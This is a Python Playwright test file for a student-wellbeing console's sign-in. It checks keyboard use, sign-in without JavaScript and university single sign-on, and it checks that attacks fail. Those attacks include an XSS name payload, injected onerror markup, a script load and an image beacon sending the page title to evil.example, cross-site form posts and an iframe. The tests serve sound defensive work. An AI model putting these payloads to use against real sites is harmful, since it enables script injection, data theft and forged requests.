"""Signing in, in a real browser: by keyboard alone, without JavaScript, at the university; and attacks on it."""

import http.server
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from playwright.sync_api import Browser, expect

from intake.sealing import Vault
from intake.store import Store
from intake.vocabulary import Role
from tests.browser.conftest import Opener
from tests.support.browser import screen
from tests.support.console import PASSWORD, Served, console_settings, served
from tests.support.provider import CLIENT_ID, CLIENT_SECRET, Provider

HOSTILE_NAME = "<img src=x onerror=alert(1)>"


def test_by_keyboard_alone(console: Served, opened: Opener) -> None:
    console.account("ada")
    screen = opened()
    screen.goto("/account")
    keys = screen.page.keyboard
    keys.press("Tab")
    expect(screen.page.get_by_role("link", name="Skip to the content")).to_be_focused()
    keys.press("Enter")
    keys.press("Tab")
    expect(screen.page.get_by_label("Name")).to_be_focused()
    keys.type("ada")
    keys.press("Tab")
    keys.type("not the password")
    keys.press("Enter")
    expect(screen.page.get_by_role("alert")).to_contain_text("Name, password or code is not right")
    expect(screen.page).to_have_title("Not signed in – Student Wellbeing")
    screen.page.get_by_label("Name").focus()
    keys.type("ada")
    keys.press("Tab")
    keys.type(PASSWORD)
    keys.press("Tab")
    keys.press("Tab")
    expect(screen.page.get_by_role("button", name="Sign in")).to_be_focused()
    keys.press("Enter")
    expect(screen.page.get_by_role("heading", name="Your account")).to_be_visible()
    assert screen.page.url == console.origin + "/account"


def test_without_javascript(console: Served, opened: Opener) -> None:
    console.account("ada")
    screen = opened(java_script_enabled=False)
    screen.goto("/sign-in?next=/account")
    screen.page.get_by_label("Name").fill("ada")
    screen.page.get_by_label("Password").fill(PASSWORD)
    screen.page.get_by_role("button", name="Sign in").click()
    expect(screen.page.get_by_role("heading", name="Your account")).to_be_visible()
    screen.page.get_by_role("button", name="Sign out", exact=True).click()
    expect(screen.page.get_by_role("heading", name="Sign in")).to_be_visible()


def test_the_page_behind_is_gone_after_sign_out(console: Served, opened: Opener) -> None:
    screen = opened()
    screen.sign_in(console.account("ada"))
    screen.goto("/account")
    screen.page.get_by_role("button", name="Sign out", exact=True).click()
    expect(screen.page.get_by_role("heading", name="Sign in")).to_be_visible()
    screen.page.go_back()
    expect(screen.page.get_by_role("heading", name="Sign in")).to_be_visible()
    expect(screen.page.get_by_text("ada")).to_have_count(0)


def test_no_script_reads_the_session(console: Served, opened: Opener) -> None:
    console.account("ada")
    screen = opened()
    screen.goto("/sign-in?next=/account")
    screen.page.get_by_label("Name").fill("ada")
    screen.page.get_by_label("Password").fill(PASSWORD)
    screen.page.get_by_role("button", name="Sign in").click()
    expect(screen.page.get_by_role("heading", name="Your account")).to_be_visible()
    assert [one["name"] for one in screen.page.context.cookies()] == ["session"]
    assert screen.page.evaluate("document.cookie") == ""


def test_a_hostile_name_is_shown_and_does_nothing(console: Served, opened: Opener) -> None:
    screen = opened()
    screen.sign_in(console.account(HOSTILE_NAME))
    screen.goto("/account")
    expect(screen.page.locator("dd").filter(has_text=HOSTILE_NAME)).to_be_visible()
    assert screen.page.locator("img").count() == 0


def test_even_markup_that_got_in_would_not_run(console: Served, opened: Opener) -> None:
    screen = opened()
    screen.sign_in(console.account("ada"))
    screen.goto("/account")
    refused = screen.page.evaluate(
        """async () => {
            const tries = [
                () => { document.querySelector("main").innerHTML = "<img src=x onerror='window.ran = true'>"; },
                () => { document.createElement("script").src = "https://evil.example/x.js"; },
            ];
            const image = new Image();
            const failed = new Promise(resolve => { image.onerror = () => resolve("image"); });
            image.src = "https://evil.example/?" + document.title;
            const names = tries.map(one => { try { one(); return "done"; } catch (error) { return error.name; } });
            return [...names, await failed];
        }"""
    )
    assert refused == ["TypeError", "TypeError", "image"]
    assert screen.page.evaluate("window.ran") is None
    # This page was made to complain: it must have.
    assert any("Content Security Policy" in one for one in screen.complaints)
    screen.complaints.clear()


def test_at_the_university_by_one_click(browser: Browser, tmp_path: Path, console_store: Store, vault: Vault) -> None:
    with Provider().running() as provider:
        openid = {
            "issuer": provider.issuer,
            "client_id": CLIENT_ID,
            "client_secret": CLIENT_SECRET,
            "officer": ["wellbeing-officers"],
        }
        settings = console_settings(tmp_path, openid=openid)
        with served(settings, console_store, vault) as console, screen(browser, console) as window:
            window.goto("/account")
            window.page.get_by_role("link", name="Sign in with your university account").click()
            expect(window.page.get_by_role("heading", name="Your account")).to_be_visible()
            assert window.page.url == console.origin + "/account"
            assert window.faults() == []
            assert window.complaints == []


@contextmanager
def evil_site(page: str) -> Iterator[str]:
    """Serve one page from another site."""

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(page.encode())

        def log_message(self, *_arguments: object) -> None:
            """Say nothing."""

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    try:
        yield f"http://localhost:{server.server_port}/"
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


@pytest.mark.parametrize("kind", ["application/x-www-form-urlencoded", "text/plain", "multipart/form-data"])
def test_another_sites_form_does_nothing(console: Served, opened: Opener, kind: str) -> None:
    screen = opened()
    screen.sign_in(console.account("ada"))
    form = (
        f'<form method="post" enctype="{kind}" action="{console.origin}/sign-out/everywhere">'
        '<input name="csrf" value="0"><button>Win</button></form>'
    )
    with evil_site(form) as address:
        screen.page.goto(address)
        screen.page.get_by_role("button", name="Win").click()
        ours = kind == "application/x-www-form-urlencoded"
        said = "This is not open to you" if ours else "Something went wrong"
        expect(screen.page.get_by_role("heading")).to_contain_text(said)
    screen.goto("/account")
    expect(screen.page.get_by_role("heading", name="Your account")).to_be_visible()


def test_another_site_frames_nothing(console: Served, opened: Opener) -> None:
    screen = opened()
    screen.sign_in(console.account("ada"))
    with evil_site(f'<iframe src="{console.origin}/account"></iframe>') as address:
        screen.page.goto(address)
        frame = screen.page.frames[1]
        frame.wait_for_load_state()
        assert frame.get_by_text("Your account").count() == 0
    assert any("frame-ancestors" in one or "X-Frame-Options" in one for one in screen.complaints)
    screen.complaints.clear()


def test_a_role_that_may_not_is_told_so(console: Served, opened: Opener) -> None:
    screen = opened()
    screen.sign_in(console.account("it", Role.ADMINISTRATOR))
    screen.goto("/account")
    assert screen.page.evaluate("fetch('/pulse').then(answer => answer.status)") == 403
